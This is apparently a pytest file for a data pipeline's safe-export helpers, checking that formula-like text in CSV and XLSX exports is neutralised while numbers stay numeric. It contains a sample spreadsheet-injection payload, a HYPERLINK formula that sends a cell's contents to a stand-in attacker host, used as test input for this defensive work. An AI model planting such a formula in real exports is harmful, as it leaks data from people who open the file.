"""Files written for people: formula-like text comes out as text, numbers as numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import openpyxl
import polars as pl

from pipelines.publish.safe_export import (
    export_quarantine,
    neutralise_formulas,
    write_csv_safe,
    write_xlsx_safe,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
FRAME = pl.DataFrame(
    {
        "text": [HYPERLINK, "@SUM(A1)", "+62 811", "-2+3", "\tx", "plain", "a=b", None],
        "number": [-5, 7, 0, 1, 2, 3, 4, 5],
        "decimal": [-0.5, 1.25, None, 0.0, 2.0, 3.0, 4.0, 5.0],
    }
)
EXPECTED_TEXT = [
    "'" + HYPERLINK,
    "'@SUM(A1)",
    "'+62 811",
    "'-2+3",
    "'\tx",
    "plain",
    "a=b",
    None,
]


def test_neutralise_prefixes_text_only() -> None:
    safe = neutralise_formulas(FRAME)
    assert safe["text"].to_list() == EXPECTED_TEXT
    assert safe["number"].to_list() == FRAME["number"].to_list()
    assert safe["decimal"].to_list() == FRAME["decimal"].to_list()
    assert safe.schema == FRAME.schema
    # full-width equals sign, which some spreadsheets read as '='
    assert neutralise_formulas(pl.DataFrame({"t": ["\uff1dSUM(A1)"]}))["t"][0] == "'\uff1dSUM(A1)"


def test_csv_cells_come_out_neutralised(tmp_path: Path) -> None:
    path = write_csv_safe(FRAME, tmp_path / "out.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["text", "number", "decimal"]
    assert [r[0] for r in rows[1:]] == [t if t is not None else "" for t in EXPECTED_TEXT]
    assert rows[1][1] == "-5" and rows[1][2] == "-0.5"


def test_xlsx_cells_are_text_not_formulas(tmp_path: Path) -> None:
    path = write_xlsx_safe(FRAME, tmp_path / "out.xlsx")
    sheet = openpyxl.load_workbook(path).active
    assert [c.value for c in sheet[1]] == ["text", "number", "decimal"]
    hyperlink, at_sum = sheet["A2"], sheet["A3"]
    for cell, expected in [(hyperlink, "'" + HYPERLINK), (at_sum, "'@SUM(A1)")]:
        assert cell.data_type == "s"  # a string cell; a formula would be "f"
        assert cell.value == expected
    assert [sheet.cell(row=r, column=1).value for r in range(2, 10)] == EXPECTED_TEXT
    number = sheet["B2"]
    assert number.data_type == "n" and number.value == -5
    assert sheet["C2"].value == -0.5
    assert sheet["C4"].value is None


def test_export_quarantine_writes_each_table_in_both_formats(tmp_path: Path) -> None:
    conn = duckdb.connect()
    conn.execute("CREATE SCHEMA quarantine")
    for source in ("training", "assessments"):
        conn.execute(
            f"CREATE TABLE quarantine.{source} (source_file VARCHAR, source_row INTEGER,"
            " file_sha256 VARCHAR, column_name VARCHAR, reason VARCHAR, raw_record VARCHAR)"
        )
    conn.execute(
        "INSERT INTO quarantine.assessments VALUES "
        "('raw/assessments/b.csv', 3, 'f', 'nama', '@SUM(A1)', '{}'), "
        "('raw/assessments/a.csv', 7, 'e', 'nama', ?, '{}')",
        [HYPERLINK],
    )

    paths = export_quarantine(conn, tmp_path / "exports")

    assert [p.relative_to(tmp_path).as_posix() for p in paths] == [
        "exports/quarantine_assessments.csv",
        "exports/quarantine_assessments.xlsx",
        "exports/quarantine_training.csv",
        "exports/quarantine_training.xlsx",
    ]
    written = pl.read_csv(paths[0])
    assert written["source_file"].to_list() == ["raw/assessments/a.csv", "raw/assessments/b.csv"]
    assert written["source_row"].to_list() == [7, 3]
    assert written["reason"].to_list() == ["'" + HYPERLINK, "'@SUM(A1)"]
    sheet = openpyxl.load_workbook(paths[1]).active
    assert sheet.title == "assessments"
    assert [(c.value, c.data_type) for c in sheet["E"][1:]] == [
        ("'" + HYPERLINK, "s"),
        ("'@SUM(A1)", "s"),
    ]
    assert [c.value for c in sheet["B"][1:]] == [7, 3]
    assert pl.read_csv(paths[2]).height == 0
    assert openpyxl.load_workbook(paths[3]).active.max_row == 1
